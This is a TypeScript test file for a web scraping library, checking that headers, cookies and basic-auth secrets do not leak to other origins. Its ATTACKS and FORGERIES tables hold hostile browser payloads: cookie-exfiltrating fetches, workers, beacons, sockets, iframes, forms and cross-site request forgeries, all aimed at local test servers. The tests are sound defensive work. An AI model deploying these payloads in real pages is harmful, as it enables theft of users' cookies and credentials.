import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import {
  type Browser,
  definePaginationStrategy,
  HarvestmanError,
  type RecipeInput,
  type ScrapeOptions,
  type SettingsInput,
  scrape,
} from '@harvestman/core';
import { suggestRecipesFromUrl } from '@harvestman/core/suggest';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import * as z from 'zod/mini';
import { testBrowser } from '../test-browser.ts';

/** What a page does to have the recipe's secrets sent to another origin of its host, by the address of that. */
type Attack = (other: string) => string;

const SECRETS = {
  headers: { 'X-Token': 'token-secret' },
  cookies: [
    { name: 'session', value: 'cookie-secret' },
    { name: 'wide', value: 'wide-secret', domain: 'localhost' },
  ],
  basicAuth: { username: 'user', password: 'password-secret' },
} as const satisfies SettingsInput;
const LEAK = /secret|Basic/;

const servers: Server[] = [];
const pages = new Map<string, string>();
let browser: Browser;
let own: string;
let other: string;
let leaks: string[];
let asked: string[];
/** Settled with the first request to the other origin. */
let otherAsked: PromiseWithResolvers<void>;
let given: IncomingMessage[];

async function listen(heard: (request: IncomingMessage, body: string) => unknown): Promise<string> {
  const server = createServer(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += chunk;
    heard(request, body);
    const url = new URL(request.url ?? '/', `http://${request.headers.host}`);
    response.setHeader('access-control-allow-origin', request.headers.origin ?? '*');
    response.setHeader('access-control-allow-credentials', 'true');
    response.setHeader('access-control-allow-headers', '*, x-token, authorization');
    if (url.pathname === '/until-asked') {
      await otherAsked.promise;
      return void response.end();
    }
    if (url.pathname === '/to-other')
      return void response.writeHead(307, { location: `${other}/landed` }).end();
    if (url.pathname === '/to-told')
      return void response
        .writeHead(302, { location: `${url.search.slice(1)}/told/${request.headers['x-token']}` })
        .end();
    if (url.pathname === '/to-own')
      return void response.writeHead(307, { location: url.search.slice(1) }).end();
    if (url.pathname.endsWith('.js')) response.setHeader('content-type', 'text/javascript');
    else response.setHeader('content-type', 'text/html');
    const page = pages.get(url.href);
    response.writeHead(page === undefined ? 404 : 200).end(page);
  });
  server.on('upgrade', (request, socket) => {
    heard(request, '');
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve));
  servers.push(server);
  return `http://localhost:${(server.address() as AddressInfo).port}`;
}

beforeAll(async () => {
  browser = testBrowser();
  own = await listen((request) => given.push(request));
  other = await listen((request, body) => {
    asked.push(request.url ?? '');
    otherAsked.resolve();
    const said = JSON.stringify([request.rawHeaders, request.url, body]);
    if (LEAK.test(decodeURIComponent(said))) leaks.push(said);
  });
});
beforeEach(() => {
  pages.clear();
  leaks = [];
  asked = [];
  otherAsked = Promise.withResolvers();
  given = [];
});
afterAll(async () => {
  await browser.close();
  for (const server of servers) {
    server.closeAllConnections();
    server.close();
  }
});

const recipe = (url: string, settings: SettingsInput): RecipeInput => ({
  name: 'attack',
  url,
  listSelector: 'li',
  properties: [{ name: 'text' }],
  pagination: { type: 'next-button', nextPageSelector: '.next', maxPages: 3 },
  settings: { ...SECRETS, retries: 1, pageTimeoutMs: 240_000, block: [], ...settings },
});

async function read(
  url: string,
  settings: SettingsInput,
  change: Partial<RecipeInput> = {},
  plugins: Pick<ScrapeOptions, 'paginationStrategies'> = {},
): Promise<unknown[]> {
  const rows: unknown[] = [];
  const options = { browser, allowPrivateNetworks: true, ...plugins };
  for await (const { text } of scrape({ ...recipe(url, settings), ...change }, options)) rows.push(text);
  return rows;
}

const BUTTON = `<button class=next onclick="document.querySelector('ul').innerHTML = '<li>third'; this.remove()">next</button>`;

/** A page of the other origin that tells it all the cookies that it sees. */
const TELL = (): string =>
  script(`fetch('${other}/told?' + encodeURIComponent(document.cookie), { credentials: 'include' })`);

describe('another origin that a job comes to, static page or browser, is not the own one', () => {
  test('by a link to a page whose control needs the browser', async () => {
    pages.set(`${own}/`, `<ul><li>first</ul><a class=next href="${other}/list">next</a>`);
    pages.set(`${other}/list`, `<ul><li>second</ul>${BUTTON}`);
    expect(await read(`${own}/`, { rendering: 'auto' })).toEqual(['first', 'second', 'third']);
    expect(asked.filter((path) => path === '/list').length).toBe(2);
    expect(leaks).toEqual([]);
  });

  test('by a redirect to a page whose control needs the browser', async () => {
    pages.set(`${other}/landed`, `<ul><li>first</ul>${BUTTON}`);
    expect(await read(`${own}/to-other`, { rendering: 'auto' })).toEqual(['first', 'third']);
    expect(leaks).toEqual([]);
  });

  test('by a redirect to a page whose list needs the browser', async () => {
    pages.set(
      `${other}/landed`,
      `<ul></ul><script>document.querySelector('ul').innerHTML = '<li>' + (document.cookie || 'none')</script>`,
    );
    expect(await read(`${own}/to-other`, { rendering: 'auto' })).toEqual(['none']);
    expect(leaks).toEqual([]);
  });

  test('by a link back and forth, and the own one gets its secrets again', async () => {
    pages.set(`${own}/`, `<ul><li>first</ul><a class=next href="${other}/list">next</a>`);
    pages.set(`${other}/list`, `<ul><li>second</ul><a class=next href="${own}/back">next</a>`);
    pages.set(
      `${own}/back`,
      `<ul></ul><script>document.querySelector('ul').innerHTML = '<li>' + document.cookie</script>`,
    );
    const rows = await read(`${own}/`, { rendering: 'browser' });
    expect(rows.slice(0, 2)).toEqual(['first', 'second']);
    expect(rows[2]).toContain('session=cookie-secret');
    expect(leaks).toEqual([]);
  });

  test('in a job that resumes there after a crash', async () => {
    pages.set(`${own}/`, `<ul><li>first</ul><a class=next href="${other}/list">next</a>`);
    pages.set(`${other}/list`, `<ul><li>second</ul>${BUTTON}`);
    let crashes = 1;
    const crashing = definePaginationStrategy({
      type: 'crashing',
      schema: z.object({}),
      async advance(page, _options, context) {
        if (context.pages === 2 && crashes-- > 0) throw new HarvestmanError('PAGE_CRASHED', 'by the test');
        return (await page.click('.next')) === 'new-items' ? 'advanced' : 'no-next-control';
      },
    });
    const pagination = { type: 'crashing', maxPages: 3 };
    const options = { paginationStrategies: [crashing] };
    const rows = await read(`${own}/`, { rendering: 'auto' }, { pagination }, options);
    expect([rows, crashes]).toEqual([['first', 'second', 'third'], -1]);
    expect(leaks).toEqual([]);
  });

  test('in a window that a click opens', async () => {
    pages.set(`${other}/window`, TELL());
    pages.set(
      `${own}/`,
      `<ul><li>first</ul><button class=next onclick="window.open('${other}/window'); document.querySelector('ul').innerHTML = '<li>second'">`,
    );
    const rows = await read(`${own}/`, { rendering: 'browser' });
    expect(rows.slice(0, 2)).toEqual(['first', 'second']);
    expect(leaks).toEqual([]);
  });
});

/** A list that comes late, and not before the other origin was asked for something. */
const settle = `<ul></ul><script>{
  const asked = fetch('/until-asked');
  setTimeout(() => asked.then(() => { document.querySelector("ul").innerHTML = "<li>done" }), 700);
}</script>`;
const ATTACKS: Readonly<Record<string, Attack>> = {
  'a dedicated worker': (other) =>
    script(
      `new Worker(URL.createObjectURL(new Blob(["fetch('${other}/worker', { credentials: 'include' })"])))`,
    ),
  'a worker that follows a redirect': () =>
    script(
      `new Worker(URL.createObjectURL(new Blob(["fetch('${own}/to-other', { credentials: 'include' })"])))`,
    ),
  'a worker of a worker': (other) =>
    script(
      `new Worker(URL.createObjectURL(new Blob(["new Worker(URL.createObjectURL(new Blob([\\"fetch('${other}/worker', { credentials: 'include' })\\"])))"])))`,
    ),
  'a shared worker': (other) =>
    script(
      `new SharedWorker(URL.createObjectURL(new Blob(["fetch('${other}/worker', { credentials: 'include' })"])))`,
    ),
  'a socket': (other) => script(`new WebSocket('${other.replace('http', 'ws')}/socket')`),
  'an event stream': (other) => script(`new EventSource('${other}/stream', { withCredentials: true })`),
  'a beacon': (other) => script(`navigator.sendBeacon('${other}/beacon', document.title)`),
  'a kept fetch': (other) => script(`fetch('${other}/kept', { keepalive: true, credentials: 'include' })`),
  'a fetch that is redirected': () => script(`fetch('${own}/to-other', { credentials: 'include' })`),
  'a request that is redirected': () =>
    script(
      `const r = new XMLHttpRequest(); r.open('POST', '/to-other'); r.withCredentials = true; r.send('x')`,
    ),
  'a frame whose script reads its cookies': (other) => `<iframe src="${other}/reads"></iframe>`,
  'a frame that is redirected': () => `<iframe src="/to-other"></iframe>`,
  'a frame of another site': (other) =>
    `<iframe src="${other.replace('localhost', '127.0.0.1')}/nested"></iframe>`,
  'a form in a frame': (other) =>
    `<iframe name=f></iframe><form target=f method=post action="${other}/form"></form>${script('document.forms[0].submit()')}`,
  'a form that is redirected': () =>
    `<iframe name=f></iframe><form target=f method=post action="/to-other"></form>${script('document.forms[0].submit()')}`,
  // An installed browser sends no pings: the image alone is asked for.
  'a ping': (other) =>
    `<img src="${other}/image"><a id=p href="#x" ping="${other}/ping">x</a>${script('p.click()')}`,
  'a prefetch and a style': (other) =>
    `<link rel=prefetch href="${other}/prefetch"><link rel=preload as=fetch href="${own}/to-other" crossorigin=use-credentials><style>@import "${other}/style"; @font-face { font-family: x; src: url(/to-other) } p { font-family: x; background: url(/to-other) }</style><p>x`,
  'an image, a video, an object': () =>
    `<img src=/to-other><video src=/to-other></video><object data=/to-other></object><embed src=/to-other>`,
  'a module': () => `<script type=module src=/to-other></script>`,
  'a frame that opens itself again': (other) =>
    `<iframe srcdoc="<script>location = '${other}/reads'</script>"></iframe>`,
};

function escapeQuotes(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
}

function script(text: string): string {
  return `<script>${text}</script>`;
}

test.each(Object.entries(ATTACKS))('%s gives another origin of the host nothing', async (_name, attack) => {
  for (const path of ['/reads', '/landed']) pages.set(other + path, TELL());
  pages.set(`${other.replace('localhost', '127.0.0.1')}/nested`, `<iframe src="${other}/reads"></iframe>`);
  pages.set(`${own}/`, settle + attack(other));
  expect(await read(`${own}/`, { rendering: 'browser' })).toEqual(['done']);
  expect(asked).not.toEqual([]);
  expect(leaks).toEqual([]);
});

test('where the own origin redirects to another one, that learns nothing of who asked but the origin', async () => {
  const address = `${own}/?key=query-secret`;
  pages.set(address, `<img src="/to-other"><iframe src="/to-other"></iframe>${settle}`);
  expect(await read(address, { rendering: 'browser' }, { pagination: { type: 'none' } })).toEqual(['done']);
  expect(asked.filter((path) => path === '/landed').length).toBeGreaterThan(0);
  expect(leaks).toEqual([]);
  expect(given.find(({ url }) => url === '/to-other')?.headers.referer).toBe(address);
});

test('a worker of the own origin gets them there', async () => {
  const worker = `fetch('${own}/data', { credentials: 'include' }).then(() => postMessage(1))`;
  pages.set(
    `${own}/`,
    `<ul></ul>${script(`new Worker(URL.createObjectURL(new Blob([\`${worker}\`]))).onmessage = () => { document.querySelector('ul').innerHTML = '<li>heard' }`)}`,
  );
  expect(await read(`${own}/`, { rendering: 'browser' })).toEqual(['heard']);
  const data = given.find(({ url }) => url === '/data');
  expect(data?.headers['x-token']).toBe('token-secret');
  expect(data?.headers.cookie).toBe('session=cookie-secret; wide=wide-secret');
});

/** What a page of another origin does to have the own one do something in the recipe's name. */
const FORGERIES: Readonly<Record<string, Attack>> = {
  'a fetch that tells nobody who asks': (own) =>
    script(`fetch('${own}/act', { mode: 'no-cors', credentials: 'include', referrerPolicy: 'no-referrer' })`),
  'a fetch that posts': (own) =>
    script(`fetch('${own}/act', { method: 'POST', mode: 'no-cors', credentials: 'include', body: 'x' })`),
  'a fetch that names the own origin': (own) =>
    script(`fetch('${own}/act', { mode: 'no-cors', credentials: 'include', referrer: '${own}/' })`),
  'a fetch with leave of the site': (own) => script(`fetch('${own}/act', { credentials: 'include' })`),
  'a beacon': (own) => script(`navigator.sendBeacon('${own}/act', 'x')`),
  'an image': (own) => `<img src="${own}/act" referrerpolicy=no-referrer>`,
  'a script': (own) => `<script src="${own}/act" referrerpolicy=no-referrer></script>`,
  'a style': (own) => `<link rel=stylesheet href="${own}/act" referrerpolicy=no-referrer>`,
  'a frame': (own) => `<iframe src="${own}/act" referrerpolicy=no-referrer></iframe>`,
  'an object': (own) => `<object data="${own}/act"></object>`,
  'a form in a frame': (own) =>
    `<meta name=referrer content=no-referrer><iframe name=f></iframe><form target=f method=post action="${own}/act"></form>${script('document.forms[0].submit()')}`,
  'a worker': (own) =>
    script(
      `new Worker(URL.createObjectURL(new Blob(["fetch('${own}/act', { mode: 'no-cors', credentials: 'include' })"])))`,
    ),
  'a shared worker': (own) =>
    script(
      `new SharedWorker(URL.createObjectURL(new Blob(["fetch('${own}/act', { mode: 'no-cors', credentials: 'include' })"])))`,
    ),
  'a frame without an address': (own) =>
    `<meta name=referrer content=no-referrer><iframe srcdoc="<img src='${own}/act'>"></iframe>`,
  'a frame of data': (own) =>
    `<iframe src="data:text/html,<img src='${own}/act' referrerpolicy=no-referrer>"></iframe>`,
  'a redirect': (own) => `<img src="/to-own?${own}/act" referrerpolicy=no-referrer>`,
  'a kept fetch as it leaves': (own) =>
    script(
      `fetch('${own}/act', { mode: 'no-cors', keepalive: true, credentials: 'include', referrerPolicy: 'no-referrer' }); location = '${own}/framed'`,
    ),
};

test("another origin in a frame has the own one do nothing in the recipe's name", async () => {
  const names = Object.keys(FORGERIES);
  const hosts = [other, other.replace('localhost', '127.0.0.1')];
  const frames = hosts.flatMap((host, at) =>
    names.map((name, index) => {
      const forgery = FORGERIES[name]?.(own) ?? '';
      pages.set(`${host}/forges-${index}`, forgery.replaceAll('/act', `/act-${at}-${index}`));
      return `<iframe src="${host}/forges-${index}"></iframe>`;
    }),
  );
  pages.set(`${own}/framed`, 'framed');
  pages.set(`${own}/`, settle + frames.join(''));
  expect(await read(`${own}/`, { rendering: 'browser' })).toEqual(['done']);
  for (const [at] of hosts.entries()) {
    const acted = names.filter((_name, index) => given.some(({ url }) => url === `/act-${at}-${index}`));
    expect(acted).toEqual(names);
  }
  const acts = given.filter(({ url }) => url?.startsWith('/act'));
  expect(acts.filter(({ rawHeaders }) => LEAK.test(rawHeaders.join())).map(({ url }) => url)).toEqual([]);
});

const CARDS = (page: number): string =>
  Array.from(
    { length: 8 },
    (_, at) =>
      `<div class=card><h2><a href="/${page}-${at}">Vase ${page}-${at}</a></h2><b>$${page}${at}.50</b></div>`,
  ).join('');

describe.each(['http', 'browser'] as const)('what is suggested for a URL, %s', (rendering) => {
  test.each([
    ['is tried at another origin that it leads to without what is for its own', true],
    ['is tried at its own origin with what is for that', false],
  ])('%s', async (_, leadsOn) => {
    const at = leadsOn ? other : own;
    pages.set(`${at}/landed`, `<main>${CARDS(1)}</main><a rel=next href="/second">Next</a>`);
    pages.set(`${at}/second`, `<main>${CARDS(2)}</main>`);
    const [first] = await suggestRecipesFromUrl(leadsOn ? `${own}/to-other` : `${own}/landed`, {
      browser,
      try: true,
      allowPrivateNetworks: true,
      settings: { ...SECRETS, rendering, retries: 0, timeoutMs: 240_000, pageTimeoutMs: 240_000 },
    });
    expect(first).toMatchObject({ recipe: { url: `${at}/landed` }, nextPage: { read: true, newRows: 8 } });
    expect(leaks).toEqual([]);
    expect(LEAK.test(JSON.stringify(first))).toBe(!leadsOn);
    expect(first?.reasons.some((one) => one.startsWith('no headers, cookies or credentials'))).toBe(leadsOn);
    const second = given.find(({ url }) => url === '/second');
    expect(asked.includes('/second')).toBe(leadsOn);
    expect(second?.headers['x-token']).toBe(leadsOn ? undefined : 'token-secret');
  });
});

test('what is said of a suggestion, or that there is none, does not hold what the site puts into an address', async () => {
  const settings = { ...SECRETS, rendering: 'http', retries: 0 } as const;
  const options = { allowPrivateNetworks: true, settings };
  pages.set(`${own}/told/token-secret`, '<p>no list');
  const none = await suggestRecipesFromUrl(`${own}/to-told?${own}`, options).catch((error: unknown) => error);
  expect(none).toMatchObject({ code: 'LIST_EMPTY' });
  expect(`${none}${JSON.stringify(none)}`).not.toMatch(LEAK);
  pages.set(
    `${other}/told/token-secret`,
    `<main>${CARDS(1)}</main><a rel=next href="token-secret/gone">Next</a>`,
  );
  const [first] = await suggestRecipesFromUrl(`${own}/to-told?${other}`, options);
  expect(first?.nextPage).toMatchObject({ read: false, message: expect.stringContaining('/told/…') });
  expect(JSON.stringify([first?.reasons, first?.nextPage])).not.toMatch(LEAK);
});

test('an image of the own page that another origin leads back does nothing either', async () => {
  pages.set(`${own}/`, `${settle}<img src="${other}/to-own?${own}/act">`);
  expect(await read(`${own}/`, { rendering: 'browser' })).toEqual(['done']);
  const [act] = given.filter(({ url }) => url === '/act');
  expect(act?.rawHeaders.join()).not.toMatch(LEAK);
});

test('a page that never says who asks gets its own data, beside a frame of another origin', async () => {
  pages.set(`${other}/advertisement`, 'buy');
  const ask = `setTimeout(() => fetch('/data').then(() => { document.querySelector('ul').innerHTML = '<li>asked' }), 300)`;
  pages.set(
    `${own}/`,
    `<meta name=referrer content=no-referrer><iframe src="${other}/advertisement"></iframe><ul></ul>${script(ask)}`,
  );
  expect(await read(`${own}/`, { rendering: 'browser' })).toEqual(['asked']);
  expect(asked).toContain('/advertisement');
  expect(given.find(({ url }) => url === '/data')?.headers['x-token']).toBe('token-secret');
});

/** Asks the own origin for data in every way, then tells the other one that it has. */
const ASK = (): string =>
  script(`(async () => {
    for (const how of [{}, { credentials: 'omit' }, { method: 'POST' }, { mode: 'no-cors', referrerPolicy: 'no-referrer' }])
      await fetch('${own}/data', how);
    await import('${own}/data.js?module').catch(() => undefined);
    const classic = Object.assign(document.createElement('script'), { src: '${own}/data.js' });
    await new Promise((resolve) => { classic.onerror = resolve; document.documentElement.append(classic); });
    fetch('${other}/told', { mode: 'no-cors' });
  })()`);

/** Frames that their site has put into an origin of their own. */
const OPAQUE_FRAMES: Readonly<Record<string, (page: string) => string>> = {
  'that is sandboxed': (page) => `<iframe sandbox=allow-scripts srcdoc="${escapeQuotes(page)}"></iframe>`,
  'that is sandboxed, with an address of the own origin': (page) => {
    pages.set(`${own}/written`, page);
    return '<iframe sandbox=allow-scripts src="/written"></iframe>';
  },
  'of data': (page) => `<iframe src="data:text/html,${encodeURIComponent(page)}"></iframe>`,
};

describe.each(Object.entries(OPAQUE_FRAMES))('a frame %s', (_name, frame) => {
  test("reads nothing in the recipe's name", async () => {
    pages.set(`${own}/`, settle + frame(ASK()));
    expect(await read(`${own}/`, { rendering: 'browser' })).toEqual(['done']);
    const data = given.filter(({ url }) => url?.startsWith('/data'));
    expect(data).toHaveLength(6);
    expect(data.filter(({ rawHeaders }) => LEAK.test(rawHeaders.join())).map(({ url }) => url)).toEqual([]);
  });
});
